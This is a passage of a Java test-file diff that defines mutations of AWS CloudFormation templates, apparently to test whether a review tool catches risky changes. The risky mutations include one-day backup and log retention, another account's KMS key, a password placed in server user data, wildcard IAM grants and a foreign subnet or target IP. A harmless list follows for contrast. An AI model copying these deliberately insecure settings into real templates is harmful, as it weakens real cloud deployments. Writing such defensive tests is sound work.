+                gone("templates", "the key of the logs is gone", "Network", KEY),
+                of(
+                        "templates",
+                        "an alarm that another alarm looks at is gone",
+                        templates -> templates.remove(
+                                "LoadBalancer",
+                                templates.idOf("LoadBalancer", "AWS::CloudWatch::Alarm", alarm -> alarm.at(
+                                                "/Properties/AlarmName")
+                                        .asText()
+                                        .endsWith("-unhealthy")))));
+    }
+
+    /** What only a comparison shows. */
+    private static Stream<Change> later() {
+        return Stream.of(
+                set("changes", "backups that are kept for a day", "Database", DATABASE, "/BackupRetentionPeriod", "1"),
+                set("changes", "logs that are kept for a day", "Web", "AWS::Logs::LogGroup", "/RetentionInDays", "1"),
+                set(
+                        "changes",
+                        "failed events that are kept for a minute",
+                        "Web",
+                        "AWS::SQS::Queue",
+                        "/MessageRetentionPeriod",
+                        "60"),
+                set("changes", "a disk that would have to shrink", "Database", DATABASE, "/AllocatedStorage", "'50'"),
+                set("changes", "a version before", "Database", DATABASE, "/EngineVersion", "'8.0'"),
+                set(
+                        "changes",
+                        "other addresses of the VPC",
+                        "Network",
+                        "AWS::EC2::VPC",
+                        "/CidrBlock",
+                        "'10.99.0.0/16'"),
+                set(
+                        "changes",
+                        "another name of the database",
+                        "Database",
+                        DATABASE,
+                        "/DBInstanceIdentifier",
+                        "'other'"),
+                set("changes", "another user of the database", "Database", DATABASE, "/MasterUsername", "'root'"),
+                set("changes", "a database from a snapshot", "Database", DATABASE, "/DBSnapshotIdentifier", "'old'"),
+                gone("changes", "a log that is gone", "Web", "AWS::Logs::LogGroup"),
+                gone("changes", "a queue that is gone", "Web", "AWS::SQS::Queue"),
+                gone("changes", "a front door that is gone", "LoadBalancer", FRONT_DOOR),
+                gone("changes", "a database that is gone", "Database", DATABASE));
+    }
+
+    /** Found missing by trying what the first list had not thought of. */
+    private static Stream<Change> further() {
+        return Stream.of(
+                set(
+                        "routes",
+                        "web servers in somebody's subnet, too",
+                        "Web",
+                        GROUP,
+                        "/VPCZoneIdentifier/3",
+                        "'subnet-0123456789abcdef0'"),
+                set(
+                        "routes",
+                        "the database in the subnets that AWS gives",
+                        "Database",
+                        DATABASE,
+                        "/DBSubnetGroupName",
+                        "'default'"),
+                set("names", "a network without DNS", "Network", "AWS::EC2::VPC", "/EnableDnsSupport", "false"),
+                set(
+                        "front-door",
+                        "a target of somebody's",
+                        "LoadBalancer",
+                        TARGETS,
+                        "/Targets",
+                        "[{'Id': '192.0.2.1'}]"),
+                set(
+                        "load-balancers",
+                        "load balancers that the front door doesn't know",
+                        "LoadBalancer",
+                        GROUP,
+                        "/TargetGroupARNs",
+                        ""),
+                set("servers", "servers without user data", "Web", LAUNCHED, "/LaunchTemplateData/UserData", ""),
+                set(
+                        "servers",
+                        "a document that servers run",
+                        "Network",
+                        "AWS::SSM::Document",
+                        "/DocumentType",
+                        "'Command'"),
+                set(
+                        "arrows",
+                        "a port of the database's memcached",
+                        "Database",
+                        "AWS::RDS::OptionGroup",
+                        "/OptionConfigurations/0/OptionName",
+                        "'MEMCACHED'"),
+                set(
+                        "encryption",
+                        "a key that nobody may manage",
+                        "Network",
+                        KEY,
+                        "/BypassPolicyLockoutSafetyCheck",
+                        "true"),
+                set(
+                        "encryption",
+                        "a log by another account's key",
+                        "Web",
+                        "AWS::Logs::LogGroup",
+                        "/KmsKeyId",
+                        "'arn:aws:kms:eu-west-1:999999999999:key/1'"),
+                set(
+                        "logs",
+                        "flow logs in somebody's bucket",
+                        "Network",
+                        "AWS::EC2::FlowLog",
+                        "/LogDestinationType",
+                        "'s3'"),
+                set(
+                        "logs",
+                        "a database whose audit nobody keeps",
+                        "Database",
+                        DATABASE,
+                        "/EnableCloudwatchLogsExports",
+                        "['error', 'slowquery']"),
+                set(
+                        "passwords",
+                        "a password in a command of user data",
+                        "Web",
+                        LAUNCHED,
+                        "/LaunchTemplateData/UserData",
+                        "{'Fn::Base64': {'Fn::Join': ['', ['mysql ', '{{resolve:ssm-secure:password}}']]}}"),
+                gone("functions", "failed events that are lost", "Web", "AWS::Lambda::EventInvokeConfig"),
+                of("functions", "events of no group", templates -> templates
+                        .all("Web", RULE)
+                        .forEach(rule -> {
+                            if (rule.at("/Properties").has("EventPattern")) {
+                                put(rule, "/Properties/EventPattern", "{'source': ['aws.s3']}");
+                            }
+                        })),
+                set("roll-outs", "no room for more servers", "Web", GROUP, "/MaxSize", "'2'"),
+                set(
+                        "templates",
+                        "a value of another stack's",
+                        "Web",
+                        GROUP,
+                        "/MaxSize",
+                        "{'Fn::ImportValue': 'somebody'}"),
+                statement(
+                        "wildcards",
+                        "every key by a pattern",
+                        "{'Effect': 'Allow', 'Action': 'kms:De*', 'Resource': '*'}"),
+                statement(
+                        "wildcards",
+                        "an action of no service",
+                        "{'Effect': 'Allow', 'Action': 's3:Fetch*', 'Resource': 'arn:aws:s3:::a/b'}"));
+    }
+
+    static Stream<Change> harmless() {
+        List<Change> changes = new ArrayList<>(List.of(
+                set("", "a tag of the database", "Database", DATABASE, "/Tags", "[{'Key': 'team', 'Value': 'shop'}]"),
+                set(
+                        "",
+                        "a tag of web servers",
+                        "Web",
+                        GROUP,
+                        "/Tags",
+                        "[{'Key': 'team', 'Value': 'shop', 'PropagateAtLaunch': true}]"),
+                set(
+                        "",
+                        "another description of a rule",
+                        "Network",
+                        "AWS::EC2::SecurityGroupIngress",
+                        "/Description",
+                        "'another'"),
+                set("", "another description of a key", "Database", KEY, "/Description", "'another'"),
+                set(
+                        "",
+                        "another description of an alarm",
+                        "Web",
+                        "AWS::CloudWatch::Alarm",
+                        "/AlarmDescription",
+                        "'another'"),
+                set(
+                        "",
+                        "the database's performance is looked at",
+                        "Database",
+                        DATABASE,
+                        "/EnablePerformanceInsights",
+                        "true"),
+                set("", "a larger limit of the database's disk", "Database", DATABASE, "/MaxAllocatedStorage", "2000"),
+                set("", "logs that are kept for longer", "Web", "AWS::Logs::LogGroup", "/RetentionInDays", "731"),
+                set("", "passwords that are longer", "Database", SECRET, "/GenerateSecretString/PasswordLength", "40"),
+                set(
+                        "",
+                        "passwords that are changed each week",
+                        "Database",
+                        "AWS::SecretsManager::RotationSchedule",
+                        "/RotationRules/AutomaticallyAfterDays",
+                        "7"),
+                set("", "health checks more seldom", "LoadBalancer", TARGETS, "/HealthCheckIntervalSeconds", "10"),
+                set("", "servers that are renewed each week", "Web", GROUP, "/MaxInstanceLifetime", "604800"),
+                set(
+                        "",
+                        "a function whose calls are traced",
+                        "Web",
+                        FUNCTION,
+                        "/TracingConfig",
+                        "{'Mode': 'PassThrough'}"),
+                set(
+                        "",
+                        "another variable of a function",
+                        "Web",
+                        FUNCTION,
+                        "/Environment/Variables/GREETING",
+                        "'hello'"),
+                set(
+                        "",
+                        "an image to stay on",
+                        "Web",
+                        LAUNCHED,
+                        "/LaunchTemplateData/ImageId",
+                        "'ami-0123456789abcdef0'"),
+                add(
+                        "",
+                        "one more alarm",
+                        "Web",
+                        "AWS::CloudWatch::Alarm",
+                        "'AlarmName': 'more', 'MetricName': 'm', 'Namespace': 'n', 'Threshold': 1, 'EvaluationPeriods': 1, 'ComparisonOperator': 'GreaterThanThreshold'"),
+                add("", "one more metric of a log", "Web", "AWS::Logs::MetricFilter", "'FilterPattern': ''"),
+                add(
+                        "",
+                        "a parameter that anybody may know",
+                        "Web",
+                        "AWS::SSM::Parameter",
+                        "'Name': '/shop/version', 'Type': 'String', 'Value': '3'"),
+                add(
+                        "",
+                        "another name of a key",
+                        "Database",
+                        "AWS::KMS::Alias",
+                        "'AliasName': 'alias/shop', 'TargetKeyId': {'Ref': 'Key'}"),
+                add("", "a budget", "Operations", "AWS::Budgets::Budget", "'Budget': {}"),
+                add(
+                        "",
+                        "more servers at noon",
+                        "Web",
+                        "AWS::AutoScaling::ScheduledAction",
+                        "'MinSize': 5, 'Recurrence': '0 12 * * *'"),
+                of("", "one more output", templates -> ((ObjectNode)
+                                templates.parts().get("Web"))
+                        .withObject("/Outputs")
+                        .set("Name", Templates.any("{'Value': 'shop'}"))),
+                of("", "another description of a stack", templates -> {
+                    ((ObjectNode) templates.parts().get("Web")).put("Description", "another");
+                    put(templates.first("Web", ROLE), "/Metadata/shop", "'3'");
+                }),
+                of(
+                        "",
+                        "an order in which resources are made",
+                        templates -> put(
+                                templates.first("LoadBalancer", "AWS::Logs::MetricFilter"),
+                                "/DependsOn",
+                                "['%s']".formatted(templates.id("LoadBalancer", "AWS::Logs::LogGroup"))))));
+        return changes.stream();
+    }
+}
